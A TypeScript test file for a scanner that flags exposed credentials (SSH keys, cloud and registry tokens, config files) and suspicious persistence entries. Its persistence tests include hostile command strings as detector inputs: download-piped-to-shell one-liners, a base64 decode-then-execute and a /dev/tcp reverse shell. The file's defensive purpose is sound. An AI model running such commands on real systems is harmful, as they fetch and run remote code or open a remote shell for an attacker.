import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  inspectAwsCredentials,
  inspectDockerConfig,
  inspectGhHosts,
  inspectGitCredentials,
  inspectKubeConfig,
  inspectNpmrc,
  inspectPypirc,
} from '../../../shared/src/exposure/credentialFiles';
import { inspectCrontab, inspectDesktopEntry, inspectLaunchAgent, inspectShellRc, inspectSystemdUnit, suspiciousCommand } from '../../../shared/src/exposure/persistence';
import { classifyVariableName, countTokenShapes, isPlaceholderValue, tokenShapeOf } from '../../../shared/src/exposure/secretShapes';
import { classifyPrivateKey } from '../../../shared/src/exposure/sshKeyFormat';
import { inspectEnvFileText } from '../../../shared/src/exposure/workspaceEnvFiles';
import { canaryValue, openSshKey } from '../../support/fakeHome';

describe('private key classification', () => {
  test('OpenSSH v1: cipher/kdf none is unencrypted, bcrypt is encrypted, garbage is unknown', () => {
    assert.equal(classifyPrivateKey(openSshKey(false, 'x')), 'openssh-unencrypted');
    assert.equal(classifyPrivateKey(openSshKey(true, 'x')), 'openssh-encrypted');
    assert.equal(classifyPrivateKey('-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n'), 'unknown-private-key');
  });
  test('PEM with and without Proc-Type ENCRYPTED, PKCS#8, PuTTY, and non-keys', () => {
    assert.equal(classifyPrivateKey('-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\nabc\n'), 'pem-encrypted');
    assert.equal(classifyPrivateKey('-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n-----END EC PRIVATE KEY-----'), 'pem-unencrypted');
    assert.equal(classifyPrivateKey('-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIF'), 'pkcs8-encrypted');
    assert.equal(classifyPrivateKey('-----BEGIN PRIVATE KEY-----\nMIIE'), 'pkcs8-unencrypted');
    assert.equal(classifyPrivateKey('PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n'), 'putty-unencrypted');
    assert.equal(classifyPrivateKey('PuTTY-User-Key-File-2: ssh-rsa\nEncryption: aes256-cbc\n'), 'putty-encrypted');
    assert.equal(classifyPrivateKey('ssh-ed25519 AAAAC3Nza me@host'), 'not-a-private-key');
  });
});

describe('token shapes and secret names', () => {
  const shapes: Array<[string, string]> = [
    [`AKIA${canaryValue(16, true)}`, 'aws-access-key-id'],
    [`ASIA${canaryValue(16, true)}`, 'aws-access-key-id'],
    [`ghp_${canaryValue(36)}`, 'github-token'],
    [`gho_${canaryValue(36)}`, 'github-token'],
    [`ghs_${canaryValue(36)}`, 'github-token'],
    [`github_pat_${canaryValue(40)}`, 'github-token'],
    [`xoxb-${canaryValue(20)}`, 'slack-token'],
    [`xoxp-${canaryValue(20)}`, 'slack-token'],
    [`sk-ant-api03-${canaryValue(30)}`, 'anthropic-api-key'],
    [`sk-${canaryValue(40)}`, 'openai-api-key'],
    [`npm_${canaryValue(36)}`, 'npm-token'],
    [`glpat-${canaryValue(20)}`, 'gitlab-token'],
    [`eyJ${canaryValue(12)}.eyJ${canaryValue(12)}.${canaryValue(12)}`, 'jwt'],
    ['-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl', 'private-key-pem'],
    [`postgres://app:${canaryValue(12)}@db:5432/x`, 'url-with-password'],
  ];
  for (const [value, kind] of shapes) {
    test(`recognises ${kind} (${value.slice(0, 6)}…)`, () => assert.equal(tokenShapeOf(value)?.kind, kind));
  }
  test('ordinary values are not tokens', () => {
    for (const value of ['/usr/local/bin:/usr/bin', 'en_US.UTF-8', 'xterm-256color', 'https://registry.example/simple', 'sk-short', 'AKIA-not-a-key', 'ghp_short', '/home/me/.ssh/id_ed25519']) {
      assert.equal(tokenShapeOf(value), undefined, value);
    }
  });
  test('counts tokens in a history without returning them', () => {
    const counts = countTokenShapes(`git push\nexport T=ghp_${canaryValue(36)}\nexport U=ghp_${canaryValue(36)}\n`);
    assert.deepEqual([...counts], [['github-token', 2]]);
  });
  test('secret-like variable names, and names that only look like them', () => {
    const secret = ['GITHUB_TOKEN', 'MY_API_KEY', 'DB_PASSWORD', 'STRIPE_SECRET', 'AZURE_CREDENTIALS', 'SERVICE_ACCESS_KEY', 'APP_PRIVATE_KEY', 'npm_config_//registry.example/:_authToken', 'POETRY_PYPI_TOKEN_PYPI', 'TF_TOKEN_app_terraform_io', 'SENTRY_DSN'];
    for (const name of secret) assert.notEqual(classifyVariableName(name), 'ordinary', name);
    const ordinary = ['PATH', 'PWD', 'OLDPWD', 'HOME', 'TOKENIZERS_PARALLELISM', 'GPG_TTY', 'SSH_AUTH_SOCK', 'PASSWORD_STORE_DIR', 'SECRET_NAME', 'TOKEN_URL_TEMPLATE', 'AUTH_TYPE', 'KEYBOARD', 'PIP_INDEX_URL'];
    for (const name of ordinary) assert.equal(classifyVariableName(name), 'ordinary', name);
    assert.equal(classifyVariableName('GOOGLE_APPLICATION_CREDENTIALS'), 'credential-path');
    assert.equal(classifyVariableName('API_TOKEN_FILE'), 'credential-path');
  });
  test('placeholders are not secrets', () => {
    for (const v of ['', 'changeme', '<your token>', '${NPM_TOKEN}', 'xxxx', 'true', '"your-api-key"']) assert.ok(isPlaceholderValue(v), v);
    assert.ok(!isPlaceholderValue(canaryValue(20)));
  });
  test('.env text: tokens and secret-named keys counted, placeholders and config ignored', () => {
    assert.deepEqual(inspectEnvFileText(`DEBUG=true\nPORT=3000\nAPI_TOKEN=changeme\nexport DB_PASSWORD=${canaryValue(16)}\nGH=ghp_${canaryValue(36)}\n`), { secretKeys: 1, tokens: 1 });
    assert.deepEqual(inspectEnvFileText('# API_KEY=abc\nNODE_ENV=production\n'), { secretKeys: 0, tokens: 0 });
  });
});

describe('credential file inspectors: one malicious-looking and one benign case each', () => {
  test('npmrc', () => {
    assert.equal(inspectNpmrc(`//registry.example/:_authToken=npm_${canaryValue(36)}`)?.severity, 'critical');
    assert.equal(inspectNpmrc('//registry.example/:_authToken=${NPM_TOKEN}')?.severity, 'low');
    assert.equal(inspectNpmrc('fund=false\n# _authToken=old\n'), undefined);
  });
  test('pypirc', () => {
    assert.equal(inspectPypirc('[pypi]\npassword = pypi-abc\n')?.kind, 'pypi-password');
    assert.equal(inspectPypirc('[distutils]\nindex-servers = pypi\n'), undefined);
  });
  test('docker config: inline auth vs credential helpers', () => {
    assert.equal(inspectDockerConfig('{"auths":{"ghcr.io":{"auth":"eA=="}}}')?.kind, 'docker-inline-auth');
    assert.equal(inspectDockerConfig('{"auths":{"ghcr.io":{}},"credsStore":"desktop"}')?.kind, 'docker-credential-helper');
    assert.equal(inspectDockerConfig('{"auths":{}}'), undefined);
    assert.equal(inspectDockerConfig('not json'), undefined);
  });
  test('gh hosts, git credentials, kubeconfig, aws', () => {
    assert.equal(inspectGhHosts('github.com:\n  oauth_token: gho_x\n')?.severity, 'critical');
    assert.equal(inspectGhHosts('github.com:\n  user: me\n  git_protocol: https\n'), undefined);
    assert.equal(inspectGitCredentials('https://me:tok@github.com\n')?.kind, 'git-store-credentials');
    assert.equal(inspectGitCredentials('# nothing\n'), undefined);
    assert.equal(inspectKubeConfig('users:\n- user:\n    client-key-data: LS0t\n')?.severity, 'critical');
    assert.equal(inspectKubeConfig('users:\n- user:\n    exec:\n      command: aws\n')?.severity, 'medium');
    assert.equal(inspectAwsCredentials('[p]\naws_secret_access_key = x\n')?.kind, 'aws-static-keys');
    assert.equal(inspectAwsCredentials('[profile x]\nsso_session = corp\n')?.severity, 'low');
  });
});

describe('persistence rules: malicious and benign', () => {
  test('systemd units', () => {
    assert.deepEqual(inspectSystemdUnit('[Service]\nExecStart=/home/me/.cache/.x/run\n').map((h) => h.reason), ['exec-from-hidden-folder']);
    assert.deepEqual(inspectSystemdUnit('[Service]\nExecStartPre=-/tmp/payload\n').map((h) => h.reason), ['exec-from-temp-folder']);
    assert.deepEqual(inspectSystemdUnit('[Service]\nExecStart=/bin/sh -c "curl -s http://x | sh"\n').map((h) => h.reason), ['download-piped-to-shell']);
    assert.deepEqual(inspectSystemdUnit('[Service]\nExecStart=%h/.local/bin/syncthing serve\nExecStart=/usr/bin/pipewire\n'), []);
  });
  test('autostart, crontab, LaunchAgents', () => {
    assert.equal(inspectDesktopEntry('[Desktop Entry]\nExec=/dev/shm/.x\n')[0]?.reason, 'exec-from-temp-folder');
    assert.deepEqual(inspectDesktopEntry('[Desktop Entry]\nExec=/usr/bin/nextcloud --background\n'), []);
    assert.equal(inspectCrontab('@reboot ~/.hidden/miner\n')[0]?.reason, 'exec-from-hidden-folder');
    assert.deepEqual(inspectCrontab('# m h dom mon dow command\nSHELL=/bin/bash\n0 1 * * * /usr/bin/restic backup ~/.config\n'), []);
    assert.equal(inspectLaunchAgent('<array>\n<string>/Users/me/.update/agent</string>\n</array>')[0]?.reason, 'exec-from-hidden-folder');
    assert.deepEqual(inspectLaunchAgent('<key>Label</key>\n<string>com.apple.x</string>\n<string>/usr/local/bin/brew</string>'), []);
  });
  test('shell rc: tool installers are fine, hidden binaries, pipes to shells and reverse shells are not', () => {
    const benign = ['. "$HOME/.cargo/env"', 'export NVM_DIR="$HOME/.nvm"', '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"', 'source ~/.oh-my-zsh/oh-my-zsh.sh', 'export PATH="$HOME/.local/bin:$PATH"', 'eval "$(~/.local/bin/mise activate bash)"', 'alias ll="ls -la"', '# curl https://x | sh'];
    assert.deepEqual(inspectShellRc(benign.join('\n')), []);
    assert.deepEqual(suspiciousCommand('nohup ~/.dbus-session/agent &'), ['exec-from-hidden-folder']);
    assert.deepEqual(suspiciousCommand('wget -qO- http://x | bash'), ['download-piped-to-shell']);
    assert.deepEqual(suspiciousCommand('echo aGk= | base64 -d | sh'), ['decode-then-exec']);
    assert.deepEqual(suspiciousCommand('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), ['reverse-shell']);
  });
});

describe('more credential files', () => {
  test('gradle/yarn/glab secret keys, Maven and NuGet passwords, pip index URLs, git store helper', async () => {
    const { inspectSecretKeys, inspectXmlPasswords, inspectIndexUrls, inspectGitConfig } = await import('../../../shared/src/exposure/credentialFiles');
    const yarn = inspectSecretKeys('yarn-npm-auth-token', 'Yarn', 'x');
    assert.equal(yarn(`npmAuthToken: "${canaryValue(20)}"\n`)?.kind, 'yarn-npm-auth-token');
    assert.equal(yarn('nodeLinker: node-modules\nnpmAuthToken: "${NPM_TOKEN}"\n'), undefined);
    const gradle = inspectSecretKeys('gradle-publishing-secrets', 'Gradle', 'x');
    assert.equal(gradle(`signing.password=${canaryValue(12)}\nossrhPassword=${canaryValue(12)}\n`)?.title, 'Gradle (2 entries)');
    assert.equal(gradle('org.gradle.jvmargs=-Xmx2g\norg.gradle.parallel=true\n'), undefined);
    const maven = inspectXmlPasswords('maven-server-passwords', 'Maven', 'x');
    assert.equal(maven('<servers><server><id>a</id><password>hunter22</password></server></servers>')?.severity, 'critical');
    assert.equal(maven('<servers><server><password>${env.MAVEN_PASSWORD}</password></server></servers>'), undefined);
    assert.equal(maven('<add key="ClearTextPassword" value="x1y2z3" />')?.severity, 'critical');
    assert.equal(inspectIndexUrls('[global]\nindex-url = https://me:s3cr3t@pypi.corp.invalid/simple\n')?.kind, 'index-url-with-password');
    assert.equal(inspectIndexUrls('[global]\nindex-url = https://pypi.corp.invalid/simple\n'), undefined);
    assert.equal(inspectGitConfig('[credential]\n\thelper = store\n')?.kind, 'git-credential-store-helper');
    assert.equal(inspectGitConfig('[credential]\n\thelper = libsecret\n[user]\n\tname = Me\n'), undefined);
  });
});
